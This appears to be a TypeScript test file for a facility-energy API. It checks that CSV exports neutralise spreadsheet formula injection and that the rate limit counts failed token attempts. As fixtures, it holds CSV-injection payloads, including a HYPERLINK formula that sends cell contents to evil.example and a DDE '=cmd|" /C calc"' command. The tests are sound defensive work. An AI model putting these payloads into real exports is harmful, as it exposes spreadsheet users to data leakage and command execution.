/**
 * Hostile input at the API, through `app.inject()` over a real DuckDB store: CSV exports that a
 * spreadsheet cannot run as formulas, requests with bad or missing tokens counted by the rate
 * limit, and a 429 that states the window it enforces.
 */
import { readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp, describeWindow } from '../../api/app.ts';
import { DEMO_FACILITY_PATH, type Facility, loadFacility } from '../../core/facility/index.ts';
import { RollingStore } from '../../core/rollup/rolling-store.ts';
import type { Point } from '../../core/store.ts';
import { PointMaker } from '../../simulators/points.ts';
import { DuckDbDeadLetterSink } from '../../storage/duckdb/dead-letter.ts';
import { DuckDbStore } from '../../storage/duckdb/duckdb-store.ts';

const ADMIN = 'bootstrap-admin-token-for-hostile';
const HOUR = 3_600_000;
/** 2026-11-25 00:00 in Chengdu (+08:00). */
const DAY = Date.UTC(2026, 10, 24, 16);
const PERIOD = 'from=2026-11-25&to=2026-11-26';

const loaded = loadFacility(readFileSync(DEMO_FACILITY_PATH, 'utf8'), 'demo-facility.yaml');
if (!loaded.ok) throw new Error('the demo facility does not load');
/** The demo, with building names an attacker with access to the facility file would write. */
const facility: Facility = structuredClone(loaded.facility);
const [b1, b2, b3] = facility.buildings as [
  Facility['buildings'][number],
  Facility['buildings'][number],
  Facility['buildings'][number],
];
b1.name = { zh: '=HYPERLINK("http://evil.example/?"&A1,"点我")', en: '+1+cmd|calc' };
b2.name = { zh: '@SUM(1+1)', en: '-2+3' };
b3.name = { zh: '\t制表符', en: '\rcarriage' };

const teardown: Array<() => Promise<unknown>> = [];
afterAll(async () => {
  for (const step of teardown.reverse()) await step();
});

let folder: string;
let store: RollingStore;
let deadLetters: DuckDbDeadLetterSink;
let app: FastifyInstance;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'sfp-hostile-'));
  teardown.push(() => rm(folder, { recursive: true, force: true }));
  const inner = new DuckDbStore({ path: join(folder, 'facility.duckdb') });
  store = new RollingStore({ store: inner, facility });
  await store.start();
  teardown.push(() => store.stop());
  deadLetters = new DuckDbDeadLetterSink({ database: inner });
  await deadLetters.start();
  teardown.push(() => deadLetters.stop());

  const points: Point[] = [];
  new PointMaker(facility).append(
    'meter',
    'b1-e-main',
    [
      { ts: DAY, total: 1000 },
      { ts: DAY + 24 * HOUR, total: 1240 },
    ],
    points,
  );
  await store.write(points);
  // What a device can put in the dead-letter: its payload, and text derived from it.
  await deadLetters.add([
    {
      time: DAY + HOUR,
      topic: 'fac/cd-compound/meter/b1-e-main/reading',
      device: { kind: 'meter', id: 'b1-e-main' },
      reason: 'not-json',
      detail: '=cmd|" /C calc"!A0',
      payload: '=HYPERLINK("http://evil.example")',
      encoding: 'utf8',
      size: 33,
      truncated: false,
    },
    {
      time: DAY + 2 * HOUR,
      topic: 'fac/cd-compound/meter/b1-e-main/reading',
      device: { kind: 'meter', id: 'b1-e-main' },
      reason: 'not-json',
      detail: '-1+1',
      payload: '@SUM(1)\nsecond line',
      encoding: 'utf8',
      size: 19,
      truncated: false,
    },
  ]);

  app = buildApp({
    version: '0',
    facility,
    store,
    deadLetters,
    data: folder,
    adminToken: ADMIN,
    rateLimit: false,
  });
  teardown.push(() => app.close());
  await app.ready();
});

/** CSV answer → rows of cells (the cells here hold no commas outside quotes). */
async function csv(
  url: string,
): Promise<{ header: string[]; rows: Array<Record<string, string>>; text: string }> {
  const response = await app.inject({
    url,
    headers: { authorization: `Bearer ${ADMIN}`, accept: 'text/csv' },
  });
  expect(response.statusCode).toBe(200);
  expect(response.headers['content-type']).toMatch(/^text\/csv/);
  const text = response.body.replace(/^\ufeff/, '');
  // A small CSV reader: quoted cells may hold commas, quotes ("") and line breaks.
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i++;
    } else cell += c;
  }
  const [header = [], ...rest] = records;
  return {
    header,
    rows: rest.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i] ?? '']))),
    text,
  };
}

describe('CSV exports are formula-safe', () => {
  it('prefixes a quote to names that begin = + - @ tab or CR, and keeps numbers as numbers', async () => {
    const { rows } = await csv(`/api/v1/energy/summary?${PERIOD}&groupBy=building`);
    const byId = new Map(rows.map((row) => [row.id, row]));
    expect(byId.get(b1.id)?.['name.zh']).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"点我")`);
    expect(byId.get(b1.id)?.['name.en']).toBe(`'+1+cmd|calc`);
    expect(byId.get(b2.id)?.['name.zh']).toBe(`'@SUM(1+1)`);
    expect(byId.get(b2.id)?.['name.en']).toBe(`'-2+3`);
    expect(byId.get(b3.id)?.['name.zh']).toBe(`'\t制表符`);
    expect(byId.get(b3.id)?.['name.en']).toBe(`'\rcarriage`);
    // 1000 → 1240 kWh over the day on b1's main meter: 240 kWh, a plain number cell.
    expect(byId.get(b1.id)?.electricityKwh).toBe('240');
  });

  it('escapes dead-lettered payloads and details, and a line break stays inside its cell', async () => {
    const { rows } = await csv('/api/v1/ingest/rejections');
    expect(rows.map((row) => [row.payload, row.detail])).toEqual([
      [`'@SUM(1)\nsecond line`, `'-1+1`],
      [`'=HYPERLINK("http://evil.example")`, `'=cmd|" /C calc"!A0`],
    ]);
    // Numbers stay numbers: ids and sizes are not quoted or prefixed.
    expect(rows.map((row) => row.size)).toEqual(['19', '33']);
  });
});

describe('rate limit', () => {
  async function limitedApp(max: number, timeWindowMs: number): Promise<FastifyInstance> {
    const limited = buildApp({
      version: '0',
      facility,
      store,
      deadLetters,
      data: folder,
      adminToken: ADMIN,
      rateLimit: { max, timeWindowMs },
    });
    teardown.push(() => limited.close());
    await limited.ready();
    return limited;
  }

  it('counts requests with a bad or missing token against their address', async () => {
    const limited = await limitedApp(3, 60_000);
    const missing = await limited.inject({ url: '/api/v1/facility' });
    expect(missing.statusCode).toBe(401);
    const wrong = await limited.inject({
      url: '/api/v1/facility',
      headers: { authorization: 'Bearer nope' },
    });
    expect(wrong.statusCode).toBe(401);
    const malformed = await limited.inject({
      url: '/api/v1/facility',
      headers: { authorization: 'Basic x' },
    });
    expect(malformed.statusCode).toBe(401);
    // Three refused guesses used the address's three requests: the fourth, even with the right
    // token, and a fifth guess, are 429.
    const right = await limited.inject({
      url: '/api/v1/facility',
      headers: { authorization: `Bearer ${ADMIN}` },
    });
    expect(right.statusCode).toBe(429);
    const guess = await limited.inject({
      url: '/api/v1/facility',
      headers: { authorization: 'Bearer again' },
    });
    expect(guess.statusCode).toBe(429);
    // Another address is not affected.
    const other = await limited.inject({
      url: '/api/v1/facility',
      remoteAddress: '192.0.2.7',
      headers: { authorization: `Bearer ${ADMIN}` },
    });
    expect(other.statusCode).toBe(200);
  });

  it.each([
    [60_000, '1 minute'],
    [300_000, '5 minutes'],
    [30_000, '30 s'],
  ])('states the window it enforces (%i ms → %s) and when to try again', async (windowMs, said) => {
    const limited = await limitedApp(1, windowMs);
    const headers = { authorization: `Bearer ${ADMIN}` };
    expect((await limited.inject({ url: '/api/v1/facility', headers })).statusCode).toBe(200);
    const refused = await limited.inject({ url: '/api/v1/facility', headers });
    expect(refused.statusCode).toBe(429);
    const { error } = refused.json() as { error: { code: string; message: string } };
    expect(error.code).toBe('RATE_LIMITED');
    const retryAfter = Number(refused.headers['retry-after']);
    expect(retryAfter).toBeGreaterThan(0);
    expect(retryAfter).toBeLessThanOrEqual(windowMs / 1000);
    expect(error.message).toBe(
      `more than 1 requests in ${said} from this address; try again in ${retryAfter} s`,
    );
  });

  it('describes windows in words a person reads', () => {
    expect([60_000, 120_000, 1_000, 1_500, 90_000].map(describeWindow)).toEqual([
      '1 minute',
      '2 minutes',
      '1 s',
      '1.5 s',
      '90 s',
    ]);
  });
});
